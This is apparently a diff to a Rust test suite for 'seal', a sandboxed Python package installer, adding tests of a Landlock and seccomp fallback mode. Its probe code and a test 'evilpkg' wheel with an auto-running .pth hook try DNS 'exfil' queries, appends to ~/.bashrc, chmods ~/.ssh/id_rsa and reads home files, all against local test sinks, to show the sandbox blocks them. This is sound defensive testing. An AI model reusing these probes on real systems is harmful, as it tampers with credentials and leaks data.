@@ -14,7 +14,7 @@ mod install_support;
 use std::collections::BTreeMap;
 use std::fs;
 use std::os::unix::fs::MetadataExt;
-use std::path::Path;
+use std::path::{Path, PathBuf};
 use std::time::Duration;
 
 use install_support::*;
@@ -156,7 +156,12 @@ def run():
         for label in (CFG["marker"], data, "exfil", "invalid"):
             q += bytes([len(label)]) + label.encode()
         q += b"\x00\x00\x10\x00\x01"
-        s = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
+        try:
+            s = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
+        except OSError as e:
+            # The fallback mode refuses socket() itself.
+            R["dns_send"], R["dns_recv"] = _en(e), "not sent"
+            return
         s.settimeout(2)
         try:
             attempt("dns_send", lambda: s.connect(("127.0.0.1", CFG["dns_port"])) or s.send(q) and None)
@@ -1083,6 +1088,23 @@ fn real_pypi_end_to_end() {
             "{}",
             out.describe()
         );
+        // The same from seal.lock in the Landlock + seccomp fallback: TLS to PyPI through a
+        // stream seal's proxy hands in over the connection channel, hashes enforced.
+        let out = env
+            .seal(&[
+                "install",
+                "--isolation",
+                "landlock",
+                "-q",
+                "--python",
+                PYTHON,
+            ])
+            .output();
+        out.expect_success();
+        env.assert_no_canary(&out);
+        let out = env.run(&["python", "-c", "import six; print('SIX', six.__version__)"]);
+        out.expect_success();
+        assert!(out.stdout.contains("SIX "), "{}", out.describe());
     });
 }
 
@@ -1177,21 +1199,29 @@ def _probe():
     for label in (CFG["marker"], data, "exfil", "invalid"):
         q += bytes([len(label)]) + label.encode()
     q += b"\x00\x00\x10\x00\x01"
-    s = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
-    s.settimeout(2)
     try:
-        _attempt(R, "dns_send", lambda: s.connect(("127.0.0.1", CFG["dns_port"])) or s.send(q) and None)
-        if R["dns_send"] == "OK":
-            _attempt(R, "dns_recv", lambda: s.recv(512) and None)
-        else:
-            R["dns_recv"] = "not sent"
-    finally:
-        s.close()
+        s = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
+    except OSError as e:
+        # The fallback mode refuses socket() itself.
+        s = None
+        R["dns_send"], R["dns_recv"] = _en(e), "not sent"
+    if s is not None:
+        s.settimeout(2)
+        try:
+            _attempt(R, "dns_send", lambda: s.connect(("127.0.0.1", CFG["dns_port"])) or s.send(q) and None)
+            if R["dns_send"] == "OK":
+                _attempt(R, "dns_recv", lambda: s.recv(512) and None)
+            else:
+                R["dns_recv"] = "not sent"
+        finally:
+            s.close()
     def write(path, mode="w"):
         with open(path, mode) as f:
             f.write("\n# pwned %s\n" % CFG["marker"])
     _attempt(R, "write_project", lambda: write(_os.path.join(CFG["project"], "PWNED-" + CFG["marker"])))
     _attempt(R, "write_bashrc", lambda: write(_os.path.join(CFG["host_home"], ".bashrc"), "a"))
+    _attempt(R, "write_cache", lambda: write(_os.path.join(CFG["host_home"], ".cache", "seal", "PWNED-" + CFG["marker"])))
+    _attempt(R, "chmod_home", lambda: _os.chmod(_os.path.join(CFG["host_home"], ".ssh", "id_rsa"), 0o644))
     return R
 
 def _rec(b):
@@ -1328,6 +1358,15 @@ fn assert_build_contained(log: &BTreeMap<String, String>, what: &str) {
         what,
     );
     expect_probe(log, "write_project", &["EROFS", "EACCES", "ENOENT"], what);
+    expect_probe(log, "write_cache", &["EROFS", "EACCES", "ENOENT"], what);
+    // The fallback makes chmod a no-op that answers success; the host file's mode is checked
+    // with assert_home_intact.
+    expect_probe(
+        log,
+        "chmod_home",
+        &["ENOENT", "EACCES", "EPERM", "OK"],
+        what,
+    );
     // The host's file is checked with assert_home_intact; inside, a write may land in the
     // sandbox's private /tmp.
     expect_probe(
@@ -1929,5 +1968,517 @@ fn realistic_project_from_init_to_green_tests() {
                 .filter(|k| k.contains("shapes"))
                 .collect::<Vec<_>>()
         );
+    });
+}
+
+// ---------------------------------------------------------------------------------------------
+// 11. The Landlock + seccomp fallback (hosts without user namespaces)
+//
+// `--isolation landlock` asks for the fallback explicitly (this host has user namespaces);
+// `fallback_is_chosen_where_user_namespaces_are_blocked` takes them away with
+// tests/support/no_userns.py and lets auto mode find out.
+
+/// `seal install --isolation landlock -q --python /usr/bin/python3 --index-url URL ARGS`.
+fn install_fallback(env: &TestEnv, index_url: &str, args: &[&str]) -> Output {
+    env.seal(&[
+        "install",
+        "--isolation",
+        "landlock",
+        "-q",
+        "--python",
+        PYTHON,
+        "--index-url",
+        index_url,
+    ])
+    .args(args)
+    .output()
+}
+
+/// `seal run --isolation landlock -q -- PROGRAM...`.
+fn run_fallback(env: &TestEnv, program: &[&str]) -> Output {
+    env.seal(&["run", "--isolation", "landlock", "-q", "--"])
+        .args(program)
+        .output()
+}
+
+/// Every file of `dir` whose bytes contain `needle` (relative paths).
+fn files_containing(dir: &Path, needle: &str) -> Vec<String> {
+    walk(dir)
+        .into_iter()
+        .filter(|rel| {
+            let p = dir.join(rel);
+            fs::symlink_metadata(&p).is_ok_and(|m| m.is_file())
+                && fs::read(&p)
+                    .unwrap()
+                    .windows(needle.len())
+                    .any(|w| w == needle.as_bytes())
+        })
+        .map(|rel| rel.to_string_lossy().into_owned())
+        .collect()
+}
+
+/// An environment's files for comparison between two installs: bytecode only by name (its
+/// header holds the source's modification time, which differs between any two installs).
+fn comparable_env(env: &Path) -> BTreeMap<String, String> {
+    snapshot(env)
+        .into_iter()
+        .map(|(k, v)| {
+            if k.ends_with(".pyc") {
+                (k, "bytecode".to_string())
+            } else {
+                (k, v)
+            }
+        })
+        .collect()
+}
+
+#[test]
+fn fallback_install_builds_the_same_working_environment() {
+    each_variant(|v| {
+        let env = TestEnv::new(v, "fbenv");
+        let index = PyIndex::start(&env.dir.join("index"));
+        let (alpha, beta) = benign(&index);
+        let out = install_fallback(&env, &index.url(), &["alpha"]);
+        out.expect_success();
+        env.assert_no_canary(&out);
+        assert!(
+            out.stderr_lines("seal: warning").is_empty(),
+            "-q with an explicit --isolation landlock prints no warning\n{}",
+            out.describe()
+        );
+        for a in [&alpha, &beta] {
+            assert_eq!(
+                index.hits(&format!("/files/{}", a.file)),
+                1,
+                "{} not fetched exactly once:\n{}",
+                a.file,
+                index.describe_requests()
+            );
+        }
+        assert_no_tmp_install(&env, "after a successful install");
+        assert_eq!(
+            env_packages(&env),
+            vec![
+                ("alpha".into(), "1.0".into()),
+                ("beta".into(), "2.0".into())
+            ]
+        );
+        // Built at a temporary host path, relocated to /seal/env: no trace of that path.
+        let script = env.env_dir().join("bin").join("alpha-cli");
+        let text = fs::read_to_string(&script).unwrap();
+        assert!(
+            text.starts_with("#!/seal/env/bin/python\n"),
+            "console script: {text:?}"
+        );
+        assert_ne!(
+            fs::metadata(&script).unwrap().mode() & 0o111,
+            0,
+            "the console script is not executable"
+        );
+        let leftovers = files_containing(&env.env_dir(), "tmp-install-");
+        assert!(
+            leftovers.is_empty(),
+            "files naming the temporary install path: {leftovers:?}"
+        );
+        let pyc = files_containing(&env.env_dir(), "/seal/env/lib/python");
+        assert!(
+            pyc.iter().any(|p| p.ends_with(".pyc")),
+            "no bytecode names its source at /seal/env: {pyc:?}"
+        );
+
+        // The environment works in both modes.
+        let out = run_fallback(
+            &env,
+            &[
+                "python",
+                "-c",
+                "import alpha, beta; print('OUT', alpha.VERSION, beta.VERSION)",
+            ],
+        );
+        out.expect_success();
+        assert!(out.stdout.contains("OUT 1.0 2.0"), "{}", out.describe());
+        let out = env
+            .seal(&["exec", "--isolation", "landlock", "-q", "alpha-cli"])
+            .output();
+        out.expect_success();
+        assert!(
+            out.stdout.contains("alpha-cli 1.0 beta 2.0"),
+            "{}",
+            out.describe()
+        );
+        let out = env.run(&["alpha-cli"]);
+        out.expect_success();
+        assert!(
+            out.stdout.contains("alpha-cli 1.0 beta 2.0"),
+            "{}",
+            out.describe()
+        );
+
+        // The same install with namespaces, in another project, gives the same files.
+        let ns = TestEnv::new(v, "fbenv-ns");
+        ns.install(&index.url(), &["alpha"]).expect_success();
+        let (a, b) = (
+            comparable_env(&env.env_dir()),
+            comparable_env(&ns.env_dir()),
+        );
+        assert_same_snapshot(
+            &b,
+            &a,
+            "the fallback-built environment (vs the namespace-built)",
+        );
+    });
+}
+
+#[test]
+fn fallback_proxy_refuses_another_host() {
+    each_variant(|v| {
+        let env = TestEnv::new(v, "fballow");
+        let index = PyIndex::start(&env.dir.join("index"));
+        let other = PyIndex::start(&env.dir.join("other"));
+        benign(&index);
+        install_fallback(&env, &index.url(), &["alpha"]).expect_success();
+        let env_before = snapshot(&env.env_dir());
+        // epsilon's page (on the index) links its wheel on another port of 127.0.0.1.
+        let eps = other.wheel(&WheelSpec::new("epsilon", "1.0").file("epsilon.py", "X = 1\n"));
+        index.page(
+            "epsilon",
+            &[(
+                format!("http://127.0.0.1:{}/files/{}", other.port, eps.file),
+                &eps,
+            )],
+        );
+
+        let out = install_fallback(&env, &index.url(), &["epsilon"]);
+        out.expect_failure();
+        let target = format!("127.0.0.1:{}", other.port);
+        assert!(
+            out.stderr
+                .lines()
+                .any(|l| l.starts_with("seal: proxy refused ") && l.contains(&target)),
+            "no `seal: proxy refused ... {target}` line\n{}",
+            out.describe()
+        );
+        assert_eq!(
+            other.connections(),
+            0,
+            "the other host was reached:\n{}",
+            other.describe_requests()
+        );
+        assert!(index.hits("/simple/epsilon/") >= 1);
+        assert_same_snapshot(&env_before, &snapshot(&env.env_dir()), ".seal/env");
+        assert_no_tmp_install(&env, "after the refused install");
+
+        // Positive control: allowing that host:port makes the same install work.
+        let out = install_fallback(&env, &index.url(), &["--allow-host", &target, "epsilon"]);
+        out.expect_success();
+        assert!(other.hits(&format!("/files/{}", eps.file)) >= 1);
+        let out = run_fallback(
+            &env,
+            &["python", "-c", "import epsilon; print('EPS', epsilon.X)"],
+        );
+        out.expect_success();
+        assert!(out.stdout.contains("EPS 1"), "{}", out.describe());
+    });
+}
+
+#[test]
+fn fallback_setup_time_code_is_contained() {
+    each_variant(|v| {
+        let env = TestEnv::new(v, "fbsdist");
+        let index = PyIndex::start(&env.dir.join("index"));
+        let tcp = TcpSink::start();
+        let dns = DnsStub::start();
+        publish_probe_sdist(&env, &index, "probepkg", &[], &tcp, &dns);
+        env.write_owned(&env.project.join("main.py"), "print('hi')\n", 0o644);
+        let project_before = project_user_files(&env.project);
+
+        let out = install_fallback(
+            &env,
+            &index.url(),
+            &["--allow-sdist", "probepkg", "probepkg"],
+        );
+        out.expect_success();
+        env.assert_no_canary(&out);
+        assert_built_offline(&out);
+        let log = installed_probe_log(&env, "probepkg");
+        assert_build_contained(&log, "fallback build");
+        // No socket at all in the fallback, and the build sees neither HOME nor the cache.
+        for k in ["tcp_sink", "proxy_3128", "import:index_direct", "dns_send"] {
+            expect_probe(&log, k, &["EACCES"], "fallback build");
+        }
+        expect_probe(&log, "write_cache", &["EACCES"], "fallback build");
+        // chmod is a no-op there: it answers success and changes nothing.
+        expect_probe(&log, "chmod_home", &["OK"], "fallback build");
+        env.assert_home_intact();
+        assert_same_snapshot(
+            &project_before,
+            &project_user_files(&env.project),
+            "the project's files",
+        );
+        assert_eq!(index.hits(BACKEND_RAN), 0, "{}", index.describe_requests());
+        std::thread::sleep(Duration::from_millis(300));
+        assert_eq!((tcp.hits(), dns.hits()), (0, 0), "a sink was reached");
+        let out = run_fallback(
+            &env,
+            &["python", "-c", "import probepkg; print(probepkg.BUILT_BY)"],
+        );
+        out.expect_success();
+        assert!(
+            out.stdout.contains("seal-test probe backend"),
+            "{}",
+            out.describe()
+        );
+    });
+}
+
+#[test]
+fn fallback_pth_hook_is_inert_at_install_and_contained_at_run() {
+    each_variant(|v| {
+        let env = TestEnv::new(v, "fbpth");
+        let index = PyIndex::start(&env.dir.join("index"));
+        let tcp = TcpSink::start();
+        let dns = DnsStub::start();
+        let marker = format!("m{}", env.nonce);
+        let cfg = serde_json::json!({
+            "marker": marker,
+            "tcp_port": tcp.port,
+            "dns_port": dns.port,
+            "project": env.project,
+            "host_home": env.home,
+            "files": PTH_FILES,
+            "env": PTH_ENV,
+        });
+        let hook = HOOK.replace("__CFG__", &serde_json::to_string(&cfg.to_string()).unwrap());
+        let evil = index.wheel(
+            &WheelSpec::new("evilpkg", "1.0")
+                .file("evilpkg/__init__.py", "")
+                .file("evilpkg_hook.py", &hook)
+                .file(
+                    "zzz_evilpkg.pth",
+                    "import evilpkg_hook; evilpkg_hook.run()\n",
+                ),
+        );
+        index.publish("evilpkg", &[&evil]);
+
+        let out = install_fallback(&env, &index.url(), &["evilpkg"]);
+        out.expect_success();
+        env.assert_no_canary(&out);
+        assert!(
+            !out.stderr.contains("SEAL-PTH-LOG"),
+            "the hook ran during the install\n{}",
+            out.describe()
+        );
+        assert!(
+            out.stderr_lines("seal: finding: pth-code ")
+                .iter()
+                .any(|l| l.contains("zzz_evilpkg.pth")),
+            "{}",
+            out.describe()
+        );
+
+        let project_before = snapshot(&env.project);
+        let out = run_fallback(&env, &["python", "-c", "pass"]);
+        out.expect_success();
+        env.assert_no_canary(&out);
+        let log = pth_log(&out);
+        for rel in PTH_FILES {
+            expect_log(
+                &log,
+                &format!("read_home:{rel}"),
+                &["ENOENT", "EACCES"],
+                &out,
+            );
+            expect_log(&log, &format!("read_abs:{rel}"), &["EACCES"], &out);
+        }
+        for n in PTH_ENV {
+            expect_log(&log, &format!("env:{n}"), &["absent"], &out);
+        }
+        for k in ["tcp_direct", "proxy_3128", "dns_send"] {
+            expect_log(&log, k, &["EACCES"], &out);
+        }
+        for k in ["write_project", "write_bashrc", "write_site_packages"] {
+            expect_log(&log, k, &["EACCES"], &out);
+        }
+        std::thread::sleep(Duration::from_millis(300));
+        assert_eq!((tcp.hits(), dns.hits()), (0, 0), "a sink was reached");
+        assert_same_snapshot(&project_before, &snapshot(&env.project), "the project tree");
+        env.assert_home_intact();
+
+        // Positive control: the installed hook, processed by the host's interpreter, reaches
+        // the TCP sink.
+        let sp = site_packages(&env.env_dir());
+        let ctl = env
+            .host(
+                PYTHON,
+                &[
+                    "-I",
+                    "-c",
+                    &format!("import site; site.addsitedir({:?})", sp.to_str().unwrap()),
+                ],
+            )
+            .output();
+        ctl.expect_success();
+        expect_log(&pth_log(&ctl), "tcp_direct", &["OK"], &ctl);
+    });
+}
+
+/// `tests/support/no_userns.py`, copied where uid 65534 can read it.
+fn no_userns_script(env: &TestEnv) -> PathBuf {
+    let dst = env.dir.join("no_userns.py");
+    fs::copy(
+        concat!(env!("CARGO_MANIFEST_DIR"), "/tests/support/no_userns.py"),
+        &dst,
+    )
+    .expect("copying no_userns.py");
+    set_mode(&dst, 0o644);
+    dst
+}
+
+#[test]
+fn fallback_is_chosen_where_user_namespaces_are_blocked() {
+    if !cfg!(target_arch = "x86_64") {
+        eprintln!("no_userns.py filters x86_64 system calls only: skipped");
+        return;
+    }
+    each_variant(|v| {
+        let env = TestEnv::new(v, "fbauto");
+        let index = PyIndex::start(&env.dir.join("index"));
+        benign(&index);
+        let blocker = no_userns_script(&env);
+        let blocked = |args: &[&str]| -> Output {
+            env.host(
+                PYTHON,
+                &[blocker.to_str().unwrap(), v.seal.to_str().unwrap()],
+            )
+            .args(args)
+            .output()
+        };
+        let url = index.url();
+        let install = ["install", "--python", PYTHON, "--index-url", &url];
+
+        // Control: with the namespaces refused, --isolation namespaces fails in one line and
+        // leaves nothing behind.
+        let out = blocked(&[&install[..], &["--isolation", "namespaces", "alpha"]].concat());
+        out.expect_failure();
+        let seal_lines = out.stderr_lines("seal: ");
+        assert!(
+            seal_lines.last().is_some_and(|l| !l.contains('\n')),
+            "{}",
+            out.describe()
+        );
+        assert!(!env.env_dir().exists(), "an environment was created");
+        assert_no_tmp_install(&env, "after the refused install");
+
+        // auto (the default): the first sandbox fails, the probe says why, the fallback runs
+        // the whole install with one warning. -q does not silence it (not asked for).
+        let out = blocked(&[&install[..], &["-q", "alpha"]].concat());
+        out.expect_success();
+        let warnings = out.stderr_lines("seal: warning: degraded isolation");
+        assert_eq!(warnings.len(), 1, "{}", out.describe());
+        assert!(
+            warnings[0].contains("user namespaces are unavailable"),
+            "{}",
+            out.describe()
+        );
+        assert_no_tmp_install(&env, "after the install");
+        let script = fs::read_to_string(env.env_dir().join("bin").join("alpha-cli")).unwrap();
+        assert!(script.starts_with("#!/seal/env/bin/python\n"), "{script:?}");
+        let out = blocked(&["exec", "alpha-cli"]);
+        out.expect_success();
+        assert!(
+            out.stdout.contains("alpha-cli 1.0 beta 2.0"),
+            "{}",
+            out.describe()
+        );
+        // With namespaces back, the same environment serves the namespace mode.
+        assert_eq!(sealed_alpha_version(&env), "1.0");
+    });
+}
+
+#[test]
+fn fallback_uv_installer() {
+    let Some(wheel) = uv_wheel() else {
+        return;
+    };
+    each_variant(|v| {
+        let mut env = TestEnv::new(v, "fbuv");
+        let index = PyIndex::start(&env.dir.join("index"));
+        let (alpha, beta) = benign(&index);
+        let uv = index.add_file(&wheel);
+        index.publish("uv", &[&uv]);
+        let cache = env.dir.join("xdg-cache");
+        env.mkdir_owned(&cache, 0o755);
+        env.set_env("XDG_CACHE_HOME", cache.to_str().unwrap());
+
+        let out = install_fallback(&env, &index.url(), &["--installer", "uv", "alpha"]);
+        out.expect_success();
+        env.assert_no_canary(&out);
+        assert!(
+            installer_line(&out).starts_with("seal: installer: uv ("),
+            "{}",
+            out.describe()
+        );
+        assert_no_tmp_install(&env, "after a successful install");
+        let script = fs::read_to_string(env.env_dir().join("bin").join("alpha-cli")).unwrap();
+        assert!(script.starts_with("#!/seal/env/bin/python\n"), "{script:?}");
+        let leftovers = files_containing(&env.env_dir(), "tmp-install-");
+        assert!(leftovers.is_empty(), "{leftovers:?}");
+        assert_benign_installed(&env, &index, &alpha, &beta);
+        let out = env
+            .seal(&["exec", "--isolation", "landlock", "-q", "alpha-cli"])
+            .output();
+        out.expect_success();
+        assert!(
+            out.stdout.contains("alpha-cli 1.0 beta 2.0"),
+            "{}",
+            out.describe()
+        );
+    });
+}
+
+#[test]
+fn names_served_by_two_indexes_are_reported_in_both_modes() {
+    each_variant(|v| {
+        for mode in ["namespaces", "landlock"] {
+            let env = TestEnv::new(v, &format!("shadow-{mode}"));
+            let index = PyIndex::start(&env.dir.join("index"));
+            let extra = PyIndex::start(&env.dir.join("extra"));
+            benign(&index);
+            // Another index serves a higher beta: pip takes it, seal names the confusion.
+            let beta3 = extra.wheel(
+                &WheelSpec::new("beta", "3.0").file("beta/__init__.py", "VERSION = '3.0'\n"),
+            );
+            extra.publish("beta", &[&beta3]);
+            let out = env
+                .seal(&[
+                    "install",
+                    "--isolation",
+                    mode,
+                    "-q",
+                    "--python",
+                    PYTHON,
+                    "--index-url",
+                    &index.url(),
+                    "--extra-index-url",
+                    &extra.url(),
+                    "alpha",
+                ])
+                .output();
+            out.expect_success();
+            let warnings =
+                out.stderr_lines("seal: warning: dependency confusion: beta is served by");
+            assert_eq!(warnings.len(), 1, "[{mode}]\n{}", out.describe());
+            assert!(
+                warnings[0].contains(&index.url()) && warnings[0].contains(&extra.url()),
+                "[{mode}] {}",
+                warnings[0]
+            );
+            assert!(
+                out.stderr_lines("seal: warning: dependency confusion: alpha")
+                    .is_empty(),
+                "[{mode}] alpha is served by one index only\n{}",
+                out.describe()
+            );
+        }
     });
 }
